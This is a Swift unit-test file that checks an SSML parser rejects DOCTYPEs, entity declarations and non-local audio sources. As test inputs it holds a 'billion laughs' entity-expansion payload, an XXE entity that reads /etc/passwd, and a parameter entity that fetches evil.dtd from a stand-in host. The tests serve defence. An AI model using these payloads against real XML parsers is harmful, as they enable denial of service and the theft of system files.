import XCTest
@testable import SSML

/// No DTD, no entity expansion, no fetching: requests come from anywhere.
final class SecurityTests: XCTestCase {
    func testBillionLaughsIsRefused() {
        let request = """
            <?xml version="1.0"?>
            <!DOCTYPE speak [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
            ]>
            <speak>&lol3;</speak>
            """
        assertSSMLError(request, line: 2, column: 1, "DOCTYPE and entity declarations are not allowed")
    }

    func testExternalEntitiesAreRefused() {
        assertSSMLError(#"<!DOCTYPE speak [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><speak>&xxe;</speak>"#,
                        line: 1, column: 1, "DOCTYPE and entity declarations are not allowed")
        assertSSMLError(#"<!DOCTYPE speak [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]><speak/>"#,
                        line: 1, column: 1, "DOCTYPE and entity declarations are not allowed")
    }

    func testAnyDoctypeIsRefused() {
        assertSSMLError(#"<!DOCTYPE speak SYSTEM "http://www.w3.org/TR/speech-synthesis11/synthesis.dtd"><speak/>"#,
                        line: 1, column: 1, "DOCTYPE and entity declarations are not allowed")
        assertSSMLError("<!-- c -->\n  <!DOCTYPE speak><speak/>", line: 2, column: 3, "DOCTYPE and entity declarations are not allowed")
    }

    func testOnlyLocalAudio() {
        for src in ["http://example.com/a.wav", "https://example.com/a.wav", "ftp://example.com/a.wav", "data:audio/wav;base64,AAAA"] {
            assertSSMLError(#"<speak>x<audio src="\#(src)"/></speak>"#, line: 1, column: 9, "only local files")
        }
        assertSSMLError(#"<speak><audio src="file://server/share/a.wav"/></speak>"#, line: 1, column: 8, "not files on host \"server\"")
        assertSSMLError(#"<speak><audio src="  "/></speak>"#, line: 1, column: 8, "src is empty")
    }
}
